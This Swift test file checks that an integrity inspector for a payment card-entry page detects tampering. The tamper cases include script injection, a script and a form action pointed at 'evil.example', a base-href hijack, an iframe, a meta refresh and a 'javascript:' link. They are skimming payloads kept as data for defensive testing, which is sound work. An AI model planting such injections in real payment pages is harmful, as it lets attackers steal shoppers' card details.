import Cryptography
import Pages
import Secrets
import Testing

/// A card page as this build answers it, to be tampered with.
private struct Served {
    var status = 200
    var fields: [PageInspection.Field]
    var text: String

    init(_ language: Language = .english, _ change: (inout CardEntryPage.Purpose) -> Void = { _ in }) {
        var purpose = CardEntryPage.Purpose.save
        change(&purpose)
        let page = CardEntryPage(
            site: Site(shopName: "Example & <shop>", basePath: "/vault"),
            purpose: purpose,
            account: "customer-17",
            publicKey: "MAMCAQA=",
            terminalID: "67e34d63-102f-4bd1",
            formToken: "a-token",
            secondsLeft: 417,
            month: 24_300,
            exit: WebAddress("https://shop.example.kz/back?a=1&b=2")
        ).rendered(in: language)
        text = page.document.withBytes { bytes in String(decoding: bytes.indices.map { bytes[$0] }, as: UTF8.self) }
        fields = page.headers.map { ($0.name, $0.value) }
        fields += [
            ("Date", "x"), ("Content-Length", "1"), ("X-Request-Id", "r"), ("Set-Cookie", "card-entry=a; Path=/"),
        ]
    }

    func inspected(isEncrypted: Bool = false) -> PageInspection {
        PageInspection(
            status: status,
            fields: fields,
            document: Array(text.utf8),
            basePath: "/vault",
            isEncrypted: isEncrypted
        )
    }

    func replacing(_ old: String, _ new: String) -> Served {
        var served = self
        let parts = text.split(separator: old, maxSplits: 1, omittingEmptySubsequences: false)
        guard parts.count == 2 else {
            Issue.record("the page does not have \(old)")
            return self
        }
        served.text = parts[0] + new + parts[1]
        return served
    }
}

@Test(arguments: Language.allCases)
func `a page of this build is found to be one`(language: Language) throws {
    let purposes: [CardEntryPage.Purpose] = [.save, .check, .checkAgain(last4: "5096")]
    for purpose in purposes {
        let inspection = Served(language, { $0 = purpose }).inspected()
        #expect(inspection.headers.isEmpty && inspection.document.isEmpty)
        let key = try Base64.decode("MAMCAQA=")
        #expect(inspection.keySHA256 == SHA256.hash(key.span).hex)
    }
}

@Test(arguments: [
    ("</head>", "<script>steal()</script></head>"),
    ("</head>", "<script src=\"https://evil.example/a.js\"></script></head>"),
    ("</body>", "<img src=\"x\" onerror=\"steal()\"></body>"), ("<h1>", "<h1 onclick=\"steal()\">"), ("defer>", ">"),
    ("integrity=\"sha256-", "integrity=\"sha256-A"), ("method=\"post\"", "method=\"get\""),
    ("action=\"?lang=en\"", "action=\"https://evil.example/\""),
    ("<head>", "<head><base href=\"https://evil.example/\">"),
    ("id=\"card-number\"", "id=\"card-number\" name=\"pan\""), ("</form>", "<input name=\"pan\"></form>"),
    ("</body>", "<iframe src=\"https://evil.example/\"></iframe></body>"), ("<body>", "<!-- a comment --><body>"),
    ("<body>", "<BODY>"), ("</body>", "<p onclick='steal()'></p></body>"),
    ("href=\"https://shop.example.kz/", "href=\"javascript:steal()//"), ("</head>", "<style>p{}</style></head>"),
    ("</head>", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"></head>"),
    ("<!DOCTYPE html>", ""),
    ("<form id", "<form id=\"first\"></form><form id"), ("lang=\"en\"", "lang=\"xx\""), ("<p>", "<p\u{0}>"),
])
func `a page that was tampered with is found`(old: String, new: String) {
    #expect(!Served().replacing(old, new).inspected().document.isEmpty)
}

@Test func `another key on the page is told apart`() {
    let inspection = Served().replacing("MAMCAQA=", "MAMCAQE=").inspected()
    #expect(inspection.document.isEmpty && inspection.keySHA256 != Served().inspected().keySHA256)
    #expect(Served().replacing("MAMCAQA=", "!").inspected().keySHA256 == nil)
}

@Test func `header fields that are missing, others or more are found`() {
    let own = Served()
    for place in own.fields.indices where own.fields[place].name != "Date" {
        var served = own
        let name = served.fields[place].name
        guard !["Content-Length", "X-Request-Id", "Set-Cookie"].contains(name) else { continue }
        served.fields[place].value = "other"
        #expect(served.inspected().headers.count == 1, "\(name)")
        served.fields.remove(at: place)
        #expect(served.inspected().headers.count == 1, "\(name)")
        served.fields += [own.fields[place], own.fields[place]]
        #expect(served.inspected().headers.count == 1, "\(name)")
    }
    for field in [
        ("Content-Security-Policy-Report-Only", "x"), ("Set-Cookie", "track=1"), ("Link", "<a>"), ("Refresh", "0"),
    ] {
        var served = own
        served.fields.append(field)
        #expect(served.inspected().headers.count == 1, "\(field)")
    }
    #expect(own.inspected(isEncrypted: true).headers.count == 1)
    var encrypted = own
    encrypted.fields.append(("Strict-Transport-Security", "max-age=31536000"))
    #expect(encrypted.inspected(isEncrypted: true).headers.isEmpty)
    var gone = own
    gone.status = 410
    #expect(gone.inspected().headers.count == 1)
}

@Test(arguments: PageInspection.files)
func `a file of the page is held against its own`(file: Asset) {
    let fields = file.headers.map { ($0.name, $0.value) }
    #expect(PageInspection.differences(of: file, status: 200, fields: fields, bytes: file.bytes).isEmpty)
    #expect(PageInspection.differences(of: file, status: 200, fields: fields, bytes: file.bytes + [32]).count == 1)
    #expect(
        PageInspection.differences(of: file, status: 200, fields: [], bytes: file.bytes).count == file.headers.count
    )
    #expect(PageInspection.differences(of: file, status: 404, fields: fields, bytes: file.bytes).count == 1)
}
